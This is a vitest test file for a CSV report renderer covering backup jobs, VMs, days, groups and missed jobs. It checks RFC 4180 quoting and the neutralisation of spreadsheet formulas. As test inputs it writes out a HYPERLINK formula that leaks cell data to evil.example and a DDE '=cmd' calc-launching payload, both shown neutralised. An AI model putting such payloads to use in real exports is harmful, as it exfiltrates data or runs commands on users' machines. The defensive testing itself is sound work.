import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { CsvTable } from '../src/render/render-csv.js';
import { renderCsv } from '../src/render/render-csv.js';
import { toSingleLine } from '../src/render/single-line.js';
import { ReportError } from '../src/report-error.js';
import {
  groupedReport,
  HOSTILE_NAMES,
  hostileReport,
  jobReport,
  sessionReport,
  smallReport,
  vmReport,
} from './render-fixtures.js';

const records = (...text: string[]) => `${text.join('\r\n')}\r\n`;

/** A strict RFC 4180 parser: records end in CRLF, quoted fields double their quotes. */
function parseCsv(csv: string): string[][] {
  const parsed: string[][] = [];
  let record: string[] = [];
  let index = 0;
  while (index < csv.length) {
    let field = '';
    if (csv[index] === '"') {
      index += 1;
      for (;;) {
        const quote = csv.indexOf('"', index);
        if (quote < 0) throw new Error(`unterminated quoted field at ${index}`);
        field += csv.slice(index, quote);
        index = quote + 1;
        if (csv[index] !== '"') break;
        field += '"';
        index += 1;
      }
    } else {
      const end = csv.slice(index).search(/[,\r\n"]/);
      field = end < 0 ? csv.slice(index) : csv.slice(index, index + end);
      index += field.length;
    }
    record.push(field);
    if (csv[index] === ',') {
      index += 1;
    } else if (csv.startsWith('\r\n', index)) {
      parsed.push(record);
      record = [];
      index += 2;
    } else {
      throw new Error(`expected , or CRLF at ${index}, not ${JSON.stringify(csv[index])}`);
    }
  }
  if (record.length > 0) throw new Error('the last record has no CRLF');
  return parsed;
}

const JOB_HEADER =
  'job_uid,job_name,job_type,backup_server,source,health,reasons,runs,attempts,successful_runs,' +
  'warning_runs,failed_runs,success_rate,last_result,last_run_at,last_success_at,' +
  'last_success_age_seconds,rpo_seconds,rpo_breached,consecutive_failures,running_since,' +
  'running_elapsed_seconds,duration_p50_seconds,duration_p95_seconds,duration_max_seconds,' +
  'duration_samples,slower_than_usual,runs_without_outcome';
const VM_HEADER =
  'vm_name,job_name,job_uid,source,health,last_result,last_run_at,last_success_at,last_success_age_seconds,' +
  'rpo_seconds,rpo_breached,top_failure_reason,top_failure_example,top_failure_count';
const GROUP_HEADER =
  'group_by,group_key,group_source,jobs,runs,failed_runs,success_rate,jobs_breaching_rpo';
const MISSED_JOB_HEADER =
  'job_uid,job_name,job_type,source,schedule_enabled,last_success_at,last_success_age_seconds,' +
  'rpo_seconds,rpo_breached';

describe('renderCsv', () => {
  it('writes a partial report as data only, as the whole one: the caller tells it is partial', () => {
    const whole = smallReport();
    const partial = {
      ...whole,
      failedSources: [{ name: 'em2', error: 'refused' }],
      sourcesWithoutVms: [{ name: 'em3', error: 'timed out' }],
    };
    for (const table of ['jobs', 'vms', 'days', 'groups', 'missedJobs'] as const) {
      expect(renderCsv(partial, { table })).toBe(
        renderCsv({ ...whole, failedSources: [] }, { table }),
      );
    }
  });

  it('writes the jobs table by default', () => {
    expect(renderCsv(smallReport())).toBe(
      records(
        JOB_HEADER,
        'urn:veeam:Job:00000000-0000-0000-0000-000000000002,Nightly SQL,Backup,vbr01,,critical,' +
          '2 failed runs in a row; no success for 2d 4h (RPO 1d),14,16,8,0,6,0.5714285714285714,' +
          'Failed,2025-09-23T20:00:00.000Z,2025-09-22T04:00:00.000Z,187200,86400,true,2,' +
          '2025-09-24T04:40:00.000Z,12000,1800,5400,7200,13,true,0',
        'urn:veeam:Job:00000000-0000-0000-0000-000000000003,File server,Backup,vbr01,,warning,' +
          'last run ended with a warning,7,7,6,1,0,0.8571428571428571,Warning,' +
          '2025-09-23T23:40:00.000Z,2025-09-22T23:40:00.000Z,30000,86400,false,0,,,2400,3000,3100,7,false,0',
        // No backup server nor source (null): empty; no reasons (an empty string): `""`.
        'urn:veeam:Job:00000000-0000-0000-0000-000000000004,Replica DC,Replica,,,ok,"",3,3,3,0,0,1,' +
          'Success,2025-09-24T07:00:00.000Z,2025-09-24T07:00:00.000Z,3600,86400,false,0,,,,,,,false,0',
      ),
    );
    expect(renderCsv(smallReport(), { table: 'jobs' })).toBe(renderCsv(smallReport()));
  });

  it('writes the VMs table with each VM’s most frequent failure reason', () => {
    expect(renderCsv(smallReport(), { table: 'vms' })).toBe(
      records(
        VM_HEADER,
        'sql01,Nightly SQL,urn:veeam:Job:00000000-0000-0000-0000-000000000002,,critical,Failed,2025-09-23T20:00:00.000Z,2025-09-22T04:00:00.000Z,' +
          '187200,86400,true,Failed to create VM snapshot on host <host>,' +
          'Failed to create VM snapshot on host esx01,4',
        'sql02,Nightly SQL,urn:veeam:Job:00000000-0000-0000-0000-000000000002,,ok,Success,2025-09-24T07:00:00.000Z,2025-09-24T07:00:00.000Z,3600,' +
          '86400,false,Timed out after <n> s,Timed out after 600 s,3',
      ),
    );
  });

  it('writes the days table', () => {
    expect(renderCsv(smallReport(), { table: 'days' })).toBe(
      records(
        'date,successful_runs,warning_runs,failed_runs',
        '2025-09-17,1,0,2',
        '2025-09-18,2,0,0',
        '2025-09-19,3,0,0',
        '2025-09-20,4,0,2',
        '2025-09-21,5,0,0',
        '2025-09-22,6,0,0',
        '2025-09-23,7,0,2',
      ),
    );
  });

  it('writes the groups table in the report’s order, both groupings of a merged report', () => {
    expect(renderCsv(groupedReport(), { table: 'groups' })).toBe(
      records(
        GROUP_HEADER,
        'jobType,Backup,,2,21,6,0.6666666666666666,1',
        'jobType,Replica,,1,3,0,1,0',
        'backupServer,vbr01,,2,21,6,0.6666666666666666,1',
        'backupServer,,,1,3,0,1,0',
      ),
    );
    const report = groupedReport();
    report.groups = [
      {
        by: 'backupServer',
        key: 'new',
        source: null,
        jobs: 1,
        runs: 0,
        failedRuns: 0,
        successRate: null,
        jobsBreachingRpo: 1,
      },
    ];
    expect(renderCsv(report, { table: 'groups' })).toBe(
      records(GROUP_HEADER, 'backupServer,new,,1,0,0,,1'),
    );
    expect(renderCsv(groupedReport())).toBe(renderCsv(smallReport()));
  });

  it('writes the missed jobs table: jobs of the job list with no session in the window', () => {
    const report = smallReport();
    report.missedJobs.push({
      jobUid: 'urn:veeam:Job:00000000-0000-0000-0000-000000000006',
      jobName: 'New, never ran',
      jobType: '',
      scheduleEnabled: true,
      backupServer: null,
      source: 'em1',
      lastSuccessAt: null,
      lastSuccessAgeSeconds: null,
      rpoSeconds: 86_400,
      rpoBreached: true,
    });
    expect(renderCsv(report, { table: 'missedJobs' })).toBe(
      records(
        MISSED_JOB_HEADER,
        'urn:veeam:Job:00000000-0000-0000-0000-000000000005,Weekly archive,Backup,,false,' +
          '2025-09-14T02:00:00.000Z,885600,86400,true',
        // An empty job type is `""`, the last success that is not known an empty field.
        'urn:veeam:Job:00000000-0000-0000-0000-000000000006,"New, never ran","",em1,true,,,86400,true',
      ),
    );
    // Without a job list there are no missed jobs: the header row alone.
    expect(renderCsv(sessionReport(), { table: 'missedJobs' })).toBe(records(MISSED_JOB_HEADER));
  });

  it('writes only the header row of an empty window, and every day of it', () => {
    expect(renderCsv(sessionReport())).toBe(records(JOB_HEADER));
    expect(renderCsv(sessionReport(), { table: 'vms' })).toBe(records(VM_HEADER));
    // An ungrouped report has no groups: the header row alone, whatever its jobs.
    expect(renderCsv(smallReport(), { table: 'groups' })).toBe(records(GROUP_HEADER));
    expect(parseCsv(renderCsv(sessionReport(), { table: 'days' }))).toHaveLength(8);
  });

  it('writes a negative number as a number, but prefixes text that starts with -', () => {
    const report = smallReport();
    report.jobs = [
      jobReport({ jobName: '-cmd', jobType: '-5', lastSuccessAgeSeconds: -5, reasons: ['-2+3'] }),
    ];
    const [, row] = parseCsv(renderCsv(report));
    expect(row?.slice(1, 3)).toEqual(["'-cmd", "'-5"]);
    expect(row?.[6]).toBe("'-2+3");
    expect(row?.[16]).toBe('-5');
  });

  it('quotes per RFC 4180 and neutralises formulas in every text cell', () => {
    /** A name as a cell shows it: one inert line, prefixed when a spreadsheet would run it. */
    const neutralisedName = (name: string) => {
      const line = toSingleLine(name);
      return /^\s*[=+\-@]/.test(line) ? `'${line}` : line;
    };
    const report = hostileReport();
    for (const table of ['jobs', 'vms', 'missedJobs'] as const) {
      const csv = renderCsv(report, { table });
      expect(csv.replace(/"(?:[^"]|"")*"/g, '')).not.toMatch(/\r(?!\n)|(?<!\r)\n/);
      const [header, ...rows] = parseCsv(csv);
      expect(rows).toHaveLength(HOSTILE_NAMES.length);
      for (const row of rows) {
        expect(row).toHaveLength(header?.length ?? 0);
        for (const field of row) {
          expect(field).not.toMatch(/^\s*[=+@]|^\s+-|^-(?!\d+(?:\.\d+)?$)/);
          expect(field).not.toMatch(/[\p{Cc}\u202A-\u202E\u2066-\u2069]/u);
        }
      }
    }
    const [header, ...groupRows] = parseCsv(renderCsv(report, { table: 'groups' }));
    expect(groupRows).toHaveLength(2 * HOSTILE_NAMES.length);
    for (const row of groupRows) {
      expect(row).toHaveLength(header?.length ?? 0);
      for (const field of row) {
        expect(field).not.toMatch(/^\s*[=+@]|^\s+-|^-(?!\d+(?:\.\d+)?$)/);
        expect(field).not.toMatch(/[\p{Cc}\u202A-\u202E\u2066-\u2069]/u);
      }
    }
    expect(groupRows.map((row) => row[1]).sort()).toEqual(
      [...HOSTILE_NAMES, ...HOSTILE_NAMES].map(neutralisedName).sort(),
    );
    const [, ...jobRows] = parseCsv(renderCsv(report));
    expect(jobRows.map((row) => row[1])).toEqual(HOSTILE_NAMES.map(neutralisedName));
    expect(renderCsv(report)).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""x"")",`);
  });

  it('reads back to the text it was given as one inert line, whatever the text', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary' }),
        fc.string({ unit: 'binary' }),
        (vmName, example) => {
          const report = smallReport();
          report.vms = [
            vmReport({ vmName, failureReasons: [{ normalized: 'x', example, count: 1 }] }),
          ];
          const [, row] = parseCsv(renderCsv(report, { table: 'vms' }));
          const neutralised = (text: string) => {
            const line = toSingleLine(text);
            return /^\s*[=+\-@]/.test(line) ? `'${line}` : line;
          };
          expect(row?.[0]).toBe(neutralised(vmName));
          expect(row?.[12]).toBe(neutralised(example));
        },
      ),
    );
  });

  it('neutralises a group key and source a spreadsheet would run', () => {
    const report = groupedReport();
    report.groups = ['=cmd|" /C calc"!A0', '@SUM(1)', '-1+1', '+1'].map((key) => ({
      by: 'backupServer' as const,
      key,
      source: key,
      jobs: 1,
      runs: 1,
      failedRuns: 0,
      successRate: 1,
      jobsBreachingRpo: 0,
    }));
    expect(renderCsv(report, { table: 'groups' })).toBe(
      records(
        GROUP_HEADER,
        `backupServer,"'=cmd|"" /C calc""!A0","'=cmd|"" /C calc""!A0",1,1,0,1,0`,
        "backupServer,'@SUM(1),'@SUM(1),1,1,0,1,0",
        "backupServer,'-1+1,'-1+1,1,1,0,1,0",
        "backupServer,'+1,'+1,1,1,0,1,0",
      ),
    );
  });

  it('starts with a UTF-8 byte order mark only when asked, for Excel', () => {
    const plain = renderCsv(smallReport(), { table: 'days' });
    expect(plain.startsWith('date,')).toBe(true);
    expect(renderCsv(smallReport(), { table: 'days', bom: false })).toBe(plain);
    expect(renderCsv(smallReport(), { table: 'days', bom: true })).toBe(`\uFEFF${plain}`);
    expect(() => renderCsv(smallReport(), { bom: 'yes' as unknown as boolean })).toThrow(
      new ReportError('invalid-option', 'bom must be true, false or undefined, not a string'),
    );
  });

  it('refuses a table it does not know', () => {
    expect(() => renderCsv(smallReport(), { table: 'servers' as CsvTable })).toThrow(
      new ReportError(
        'invalid-option',
        'table must be jobs, vms, days, groups or missedJobs, not "servers"',
      ),
    );
  });
});
